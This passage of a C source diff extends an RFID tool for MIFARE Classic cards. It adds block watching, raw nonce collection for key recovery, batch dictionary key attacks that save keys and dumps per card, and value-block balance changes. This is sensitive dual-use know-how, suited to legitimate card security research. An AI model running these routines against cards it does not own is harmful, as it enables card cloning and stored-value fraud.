-      printf("Not found\n");
+  // Optimize dictionary by moving the found keys to the front. This
+  // is done after the attack, since it changes the key indices.
+  for (size_t sector = 0; sector < CHECKPOINT_MAX_SECTORS; ++sector) {
+    for (int t = 0; t < 2; ++t) {
+      if (cp.key_found[sector][t])
+        dictionary_add(cp.key[sector][t]);
     }
-
   }
 
   if (all_keys_found)
     printf("All keys were found\n");
 
-  // Use the found keys
-  memcpy(tag, &buffer_tag, MF_4K);
-
   return true;
 }
 
@@ -590,6 +2826,9 @@ bool mf_test_auth_internal(const mf_tag_t* keys,
        block_it = sector_header_iterator(size)) {
     size_t block = (size_t)block_it;
 
+    if (job_cancelled())
+      return false;
+
     uint8_t* key = key_from_tag(keys, key_type, block);
     printf("%02zx  %c  %s  ",
            block_to_sector(block),
@@ -611,6 +2850,437 @@ bool mf_test_auth_internal(const mf_tag_t* keys,
 }
 
 
+bool mf_watch_internal(mf_tag_t* tag,
+                       const mf_tag_t* keys,
+                       const size_t* blocks, size_t count,
+                       mf_key_type_t key_type) {
+  mifare_param mp;
+
+  // The last value seen of each watched block
+  static mf_block_t last[256];
+  static bool seen[256];
+  memset(seen, 0, sizeof(seen));
+
+  // The sector the reader is authenticated to, or -1
+  int auth_sector = -1;
+
+  size_t reads = 0;
+  size_t changes = 0;
+  double start = parallel_time();
+
+  printf("Watching %zu block(s). Stop with Ctrl-C or 'jobs cancel'.\n", count);
+
+  while (!job_cancelled()) {
+    for (size_t i = 0; i < count && !job_cancelled(); ++i) {
+      size_t block = blocks[i];
+      int sector = (int)block_to_sector(block);
+
+      // Only authenticate when moving to another sector
+      if (sector != auth_sector) {
+        uint8_t* key = key_from_tag(keys, key_type, block);
+        target_lost = false;
+        if (!mf_authenticate(block, key, key_type)) {
+          if (target_lost) {
+            auth_sector = -1;
+            if (!mf_wait_for_target())
+              break;
+            continue;
+          }
+          printf("Authentication failed for sector 0x%02x with key %c: %s\n",
+                 sector, key_type, sprint_key(key));
+          return false;
+        }
+        auth_sector = sector;
+      }
+
+      // A failed read breaks the session. Select the tag again and
+      // authenticate on the next round.
+      if (!nfc_initiator_mifare_cmd(device, MC_READ, (uint8_t)block, &mp)) {
+        auth_sector = -1;
+        if (!mf_wait_for_target())
+          break;
+        continue;
+      }
+      ++reads;
+
+      if (seen[i] && memcmp(last[i].mbd.abtData, mp.mpd.abtData, 16) == 0)
+        continue;
+
+      // Print the new value, and mark the bytes that changed
+      printf("%9.3f  %02zx: ", parallel_time() - start, block);
+      for (int b = 0; b < 16; ++b)
+        printf("%02x ", mp.mpd.abtData[b]);
+      printf("\n");
+      if (seen[i]) {
+        printf("                ");
+        for (int b = 0; b < 16; ++b)
+          printf(last[i].mbd.abtData[b] != mp.mpd.abtData[b] ? "^^ " : "   ");
+        printf("\n");
+        ++changes;
+      }
+      fflush(stdout);
+
+      memcpy(last[i].mbd.abtData, mp.mpd.abtData, 16);
+      memcpy(tag->amb[block].mbd.abtData, mp.mpd.abtData, 16);
+      seen[i] = true;
+    }
+  }
+
+  double elapsed = parallel_time() - start;
+  printf("Stopped after %.1fs: %zu reads (%.0f/s), %zu changes.\n",
+         elapsed, reads, elapsed > 0 ? (double)reads / elapsed : 0.0, changes);
+
+  return true;
+}
+
+
+bool mf_collect_nonces_internal(FILE* file, size_t sector,
+                                mf_key_type_t key_type, size_t count) {
+
+  // The auth request, sent raw so the tag nonce can be captured
+  uint8_t abtAuth[4] = {
+    key_type == MF_KEY_A ? MC_AUTH_A : MC_AUTH_B,
+    (uint8_t)sector_to_trailer(sector)
+  };
+  iso14443a_crc_append(abtAuth, 2);
+
+  nonce_record_t rec = {
+    .sector = (uint8_t)sector,
+    .key_type = (uint8_t)key_type,
+  };
+
+  size_t collected = 0;
+  size_t errors = 0;
+  double start = parallel_time();
+  double last_report = start;
+
+  if (count)
+    printf("Collecting %zu nonces for sector 0x%02zx key %c.\n",
+           count, sector, key_type);
+  else
+    printf("Collecting nonces for sector 0x%02zx key %c. "
+           "Stop with Ctrl-C or 'jobs cancel'.\n", sector, key_type);
+
+  // Disable CRC and easy framing; the nonce is a raw 4 byte frame.
+  // Selecting the tag is not affected by these.
+  if (nfc_device_set_property_bool(device, NP_HANDLE_CRC, false) < 0 ||
+      nfc_device_set_property_bool(device, NP_EASY_FRAMING, false) < 0)
+    return false;
+
+  bool write_error = false;
+  while ((count == 0 || collected < count) && !job_cancelled()) {
+
+    // The UID of the tag currently selected
+    rec.uid = 0;
+    for (size_t i = target.nti.nai.szUidLen - 4; i < target.nti.nai.szUidLen; ++i)
+      rec.uid = rec.uid << 8 | target.nti.nai.abtUid[i];
+
+    int res = nfc_initiator_transceive_bytes(device, abtAuth, sizeof(abtAuth),
+                                             abtRx, sizeof(abtRx), 0);
+
+    if (res == 4) {
+      struct timespec now;
+      clock_gettime(CLOCK_REALTIME, &now);
+      rec.time_us = (uint64_t)now.tv_sec * 1000000u + (uint64_t)now.tv_nsec / 1000u;
+      rec.nt = (uint32_t)abtRx[0] << 24 | (uint32_t)abtRx[1] << 16 |
+        (uint32_t)abtRx[2] << 8 | abtRx[3];
+
+      if (nonce_file_write(file, &rec)) {
+        printf("\nCould not write nonce record.\n");
+        write_error = true;
+        break;
+      }
+      ++collected;
+    }
+    else {
+      ++errors;
+    }
+
+    // Abandon the authentication and start over
+    if (!mf_restart_target() && !mf_wait_for_target())
+      break;
+
+    // Report the throughput about once a second
+    double now = parallel_time();
+    if (now - last_report >= 1.0) {
+      printf("\r%zu nonces, %zu errors, %.0f nonces/min",
+             collected, errors, (double)collected * 60.0 / (now - start));
+      fflush(stdout);
+      last_report = now;
+    }
+  }
+
+  // Reset reader configuration. CRC and easy framing.
+  if (nfc_device_set_property_bool(device, NP_HANDLE_CRC, true) < 0 ||
+      nfc_device_set_property_bool(device, NP_EASY_FRAMING, true) < 0)
+    return false;
+
+  double elapsed = parallel_time() - start;
+  printf("\rCollected %zu nonces in %.1fs (%.0f nonces/min), %zu errors.\n",
+         collected, elapsed,
+         elapsed > 0 ? (double)collected * 60.0 / elapsed : 0.0, errors);
+
+  return !write_error;
+}
+
+
+bool mf_batch_internal(mf_batch_op_t op, mf_key_type_t key_type,
+                       const char* prefix) {
+
+  // Enumerate the tags in the field. Listing halts each tag, cycle the
+  // field to wake them all up again.
+  static nfc_target targets[MF_BATCH_MAX_TAGS];
+  int count = nfc_initiator_list_passive_targets(device, mf_nfc_modulation,
+                                                 targets, MF_BATCH_MAX_TAGS);
+  if (count <= 0) {
+    printf("No tags found.\n");
+    return false;
+  }
+  if (nfc_device_set_property_bool(device, NP_ACTIVATE_FIELD, false) < 0 ||
+      nfc_device_set_property_bool(device, NP_ACTIVATE_FIELD, true) < 0)
+    return false;
+
+  printf("Found %d tag(s).\n", count);
+
+  int ok_count = 0;
+  double start = parallel_time();
+
+  for (int i = 0; i < count && !job_cancelled(); ++i) {
+    const nfc_iso14443a_info* nai = &targets[i].nti.nai;
+
+    char uid_str[21] = "";
+    for (size_t j = 0; j < nai->szUidLen && j < 10; ++j)
+      sprintf(uid_str + 2 * j, "%02x", (unsigned int)nai->abtUid[j]);
+
+    printf("\nTag %d of %d, UID: %s\n", i + 1, count, uid_str);
+
+    // Select the tag by its UID, now and on every select after
+    pinned_uid_len = nai->szUidLen < sizeof(pinned_uid) ?
+      nai->szUidLen : sizeof(pinned_uid);
+    memcpy(pinned_uid, nai->abtUid, pinned_uid_len);
+    if (!mf_select_target()) {
+      printf("Could not select tag: %s\n", uid_str);
+      pinned_uid_len = 0;
+      continue;
+    }
+
+    if (mf_identify_target() && mf_batch_tag(op, key_type, prefix, uid_str))
+      ++ok_count;
+
+    // Halt the tag, so it keeps out of the way of the next one
+    nfc_initiator_deselect_target(device);
+    pinned_uid_len = 0;
+  }
+
+  printf("\n%d of %d tag(s) done in %.1fs.\n",
+         ok_count, count, parallel_time() - start);
+
+  return ok_count == count;
+}
+
+// Return true if the selected tag is still the one of the batch. The
+// selects ask for it by UID, this makes sure before saving.
+bool mf_batch_same_tag(const char* uid_str) {
+  if (target.nti.nai.szUidLen == pinned_uid_len &&
+      memcmp(target.nti.nai.abtUid, pinned_uid, pinned_uid_len) == 0)
+    return true;
+  printf("Another tag answered in place of %s, not saved.\n", uid_str);
+  return false;
+}
+
+// Process the selected tag of a batch
+bool mf_batch_tag(mf_batch_op_t op, mf_key_type_t key_type,
+                  const char* prefix, const char* uid_str) {
+
+  static mf_tag_t tag;
+  static mf_tag_t keys;
+  char fn[512];
+
+  switch (op) {
+  case MF_BATCH_WRITE:
+    return mf_write_tag_internal(&current_tag, &current_auth, key_type) &&
+      mf_batch_same_tag(uid_str);
+
+  case MF_BATCH_ATTACK:
+    if (!mf_dictionary_attack_internal(&keys, false) ||
+        !mf_batch_same_tag(uid_str))
+      return false;
+    snprintf(fn, sizeof(fn), "%s%s.keys", prefix, uid_str);
+    if (save_mfd(fn, &keys))
+      return false;
+    printf("Keys saved to: %s\n", fn);
+    key_type = MF_KEY_A;
+    break;
+
+  case MF_BATCH_READ:
+    memcpy(&keys, &current_auth, sizeof(keys));
+    break;
+  }
+
+  // Read the tag and save a dump
+  retry_stats_clear();
+  bool res = mf_read_tag_internal(&tag, &keys, key_type);
+  retry_stats_print_summary();
+  if (!res || !mf_batch_same_tag(uid_str))
+    return false;
+
+  snprintf(fn, sizeof(fn), "%s%s.mfd", prefix, uid_str);
+  if (save_mfd(fn, &tag))
+    return false;
+  printf("Tag saved to: %s\n", fn);
+
+  return true;
+}
+
+
+bool mf_value_batch_internal(const mf_value_op_t* ops, size_t count,
+                             const mf_tag_t* keys, mf_key_type_t key_type) {
+
+  int auth_sector = -1;    // The sector authenticated to
+  bool auth_ok = false;
+  size_t failed = 0;
+  double start = parallel_time();
+
+  for (size_t i = 0; i < count && !job_cancelled(); ++i) {
+    size_t block = ops[i].block;
+    int sector = (int)block_to_sector(block);
+
+    // One authentication per sector (the ops are sorted by block)
+    if (sector != auth_sector) {
+      auth_sector = sector;
+      auth_ok = mf_authenticate_retry(block, key_from_tag(keys, key_type, block),
+                                      key_type);
+      if (!auth_ok)
+        printf("Authentication failed for sector 0x%02x\n", sector);
+    }
+
+    if (!auth_ok) {
+      ++failed;
+      continue;
+    }
+
+    int32_t value;
+    if (mf_value_apply(block, ops[i].delta, keys, key_type, &value)) {
+      printf("  0x%02zx: %d %c %lld = %d\n", block, value,
+             ops[i].delta < 0 ? '-' : '+',
+             (long long)(ops[i].delta < 0 ? -ops[i].delta : ops[i].delta),
+             (int32_t)(value + ops[i].delta));
+    }
+    else {
+      ++failed;
+      // The session may be broken, authenticate again for the next block
+      auth_sector = -1;
+    }
+  }
+
+  printf("%zu of %zu value blocks updated in %.2fs.\n",
+         count - failed, count, parallel_time() - start);
+
+  return failed == 0 && !job_cancelled();
+}
+
+/**
+ * Apply the delta to a value block in the authenticated sector: read
+ * and check the block format, then one increment or decrement and one
+ * transfer. A failed increment/decrement is retried; it only changes
+ * the tag's internal register. If the transfer fails, the block is
+ * read again to find out if it took effect before retrying. The
+ * change is only sent again once the block reads back with the old
+ * value; if it can't be read, its state is unknown and the block is
+ * given up.
+ */
+bool mf_value_apply(size_t block, int64_t delta,
+                    const mf_tag_t* keys, mf_key_type_t key_type,
+                    int32_t* old_value) {
+  mifare_param mp;
+  uint8_t addr;
+
+  if (!mf_block_cmd(MC_READ, block, &mp, keys, key_type)) {
+    printf("  0x%02zx: Unable to read block.\n", block);
+    return false;
+  }
+
+  if (value_block_decode((const mf_block_t*)&mp.mpd, old_value, &addr)) {
+    printf("  0x%02zx: Not a value block.\n", block);
+    return false;
+  }
+
+  int64_t new_value = (int64_t)*old_value + delta;
+  if (new_value < INT32_MIN || new_value > INT32_MAX) {
+    printf("  0x%02zx: %d %+lld is out of range.\n",
+           block, *old_value, (long long)delta);
+    return false;
+  }
+
+  uint32_t magnitude = (uint32_t)(delta < 0 ? -delta : delta);
+  mifare_cmd mc = delta < 0 ? MC_DECREMENT : MC_INCREMENT;
+
+  for (int attempt = 0; ; ++attempt) {
+    for (int i = 0; i < 4; ++i)
+      mp.mpv.abtValue[i] = (uint8_t)(magnitude >> (8 * i));
+
+    if (!mf_block_cmd(mc, block, &mp, keys, key_type)) {
+      printf("  0x%02zx: Unable to change value.\n", block);
+      return false;
+    }
+
+    if (nfc_initiator_mifare_cmd(device, MC_TRANSFER, (uint8_t)block, &mp)) {
+      if (attempt)
+        retry_stats_add(block, RETRY_WRITE, attempt, RETRY_OK);
+      return true;
+    }
+
+    if (nfc_device_get_last_error(device) == NFC_ERFTRANS ||
+        attempt >= retry_policy.budget[RETRY_WRITE] || job_cancelled()) {
+      retry_stats_add(block, RETRY_WRITE, attempt,
+                      nfc_device_get_last_error(device) == NFC_ERFTRANS ?
+                      RETRY_DENIED : RETRY_FAILED);
+      printf("  0x%02zx: Unable to transfer value.\n", block);
+      return false;
+    }
+
+    // Find out if the transfer went through before the error
+    int32_t current;
+    if (!mf_value_read_back(block, keys, key_type, &current)) {
+      retry_stats_add(block, RETRY_WRITE, attempt, RETRY_FAILED);
+      printf("  0x%02zx: Transfer failed and the block can't be read, "
+             "its value is unknown.\n", block);
+      return false;
+    }
+
+    if (current == (int32_t)new_value) {
+      retry_stats_add(block, RETRY_WRITE, attempt + 1, RETRY_OK);
+      return true;
+    }
+    if (current != *old_value) {
+      retry_stats_add(block, RETRY_WRITE, attempt, RETRY_FAILED);
+      printf("  0x%02zx: Transfer failed and the value is now %d, "
+             "not changed again.\n", block, current);
+      return false;
+    }
+  }
+}
+
+// Select the tag again after a failed transfer and read the value of
+// the block, within the read retry budget. Return false if it could
+// not be read.
+bool mf_value_read_back(size_t block, const mf_tag_t* keys,
+                        mf_key_type_t key_type, int32_t* value) {
+  mifare_param mp;
+  for (int attempt = 0; attempt <= retry_policy.budget[RETRY_READ] &&
+         !job_cancelled(); ++attempt) {
+    retry_backoff(attempt);
+    if (mf_restart_target() &&
+        mf_authenticate_retry(block, key_from_tag(keys, key_type, block),
+                              key_type) &&
+        mf_block_cmd(MC_READ, block, &mp, keys, key_type))
+      return value_block_decode((const mf_block_t*)&mp.mpd, value, NULL) == 0;
+  }
+  return false;
+}
+
+
+
 bool mf_authenticate(size_t block, const uint8_t* key, mf_key_type_t key_type) {
 
   mifare_param mp;
@@ -628,13 +3298,83 @@ bool mf_authenticate(size_t block, const uint8_t* key, mf_key_type_t key_type) {
   if (nfc_initiator_mifare_cmd(device, mc, (uint8_t)block, &mp))
     return true;
 
+  auth_error = nfc_device_get_last_error(device);
+
   // Do the hand shaking again if auth failed
-  nfc_initiator_select_passive_target(device, mf_nfc_modulation,
-                                      NULL, 0, &target);
+  if (!mf_select_target())
+    target_lost = true;
 
   return false;
 }
 
+// Authenticate, retrying after RF errors. A wrong key is not retried.
+bool mf_authenticate_retry(size_t block, const uint8_t* key, mf_key_type_t key_type) {
+
+  for (int attempt = 0; ; ++attempt) {
+    target_lost = false;
+    if (mf_authenticate(block, key, key_type)) {
+      if (attempt)
+        retry_stats_add(block, RETRY_AUTH, attempt, RETRY_OK);
+      return true;
+    }
+
+    // The tag answered, the key is wrong
+    if (auth_error == NFC_EMFCAUTHFAIL && !target_lost)
+      return false;
+
+    if (attempt >= retry_policy.budget[RETRY_AUTH] || job_cancelled()) {
+      retry_stats_add(block, RETRY_AUTH, attempt, RETRY_FAILED);
+      return false;
+    }
+
+    retry_backoff(attempt);
+
+    // mf_authenticate has selected the tag again, unless it was lost
+    if (target_lost)
+      mf_restart_target();
+  }
+}
+
+/**
+ * Run a read or write block command with the retry policy. After a
+ * transient error the tag is selected and the sector authenticated
+ * again (or the tag unlocked) before the command is retried. A
+ * permission error (NFC_ERFTRANS) fails at once.
+ */
+bool mf_block_cmd(mifare_cmd mc, size_t block, mifare_param* mp,
+                  const mf_tag_t* keys, mf_key_type_t key_type) {
+
+  retry_op_t op = mc == MC_READ ? RETRY_READ : RETRY_WRITE;
+
+  for (int attempt = 0; ; ++attempt) {
+    if (nfc_initiator_mifare_cmd(device, mc, (uint8_t)block, mp)) {
+      if (attempt)
+        retry_stats_add(block, op, attempt, RETRY_OK);
+      return true;
+    }
+
+    if (nfc_device_get_last_error(device) == NFC_ERFTRANS) {
+      retry_stats_add(block, op, attempt, RETRY_DENIED);
+      return false;
+    }
+
+    if (attempt >= retry_policy.budget[op] || job_cancelled()) {
+      retry_stats_add(block, op, attempt, RETRY_FAILED);
+      return false;
+    }
+
+    retry_backoff(attempt);
+
+    // The session is gone after an error. Start over.
+    if (!mf_restart_target())
+      continue;
+    if (key_type == MF_KEY_UNLOCKED)
+      mf_unlock();
+    else
+      mf_authenticate_retry(block, key_from_tag(keys, key_type, block), key_type);
+  }
+}
+
 bool transmit_bits(const uint8_t *pbtTx, const size_t szTxBits)
 {
   // Transmit the bit frame command, we don't use the arbitrary parity feature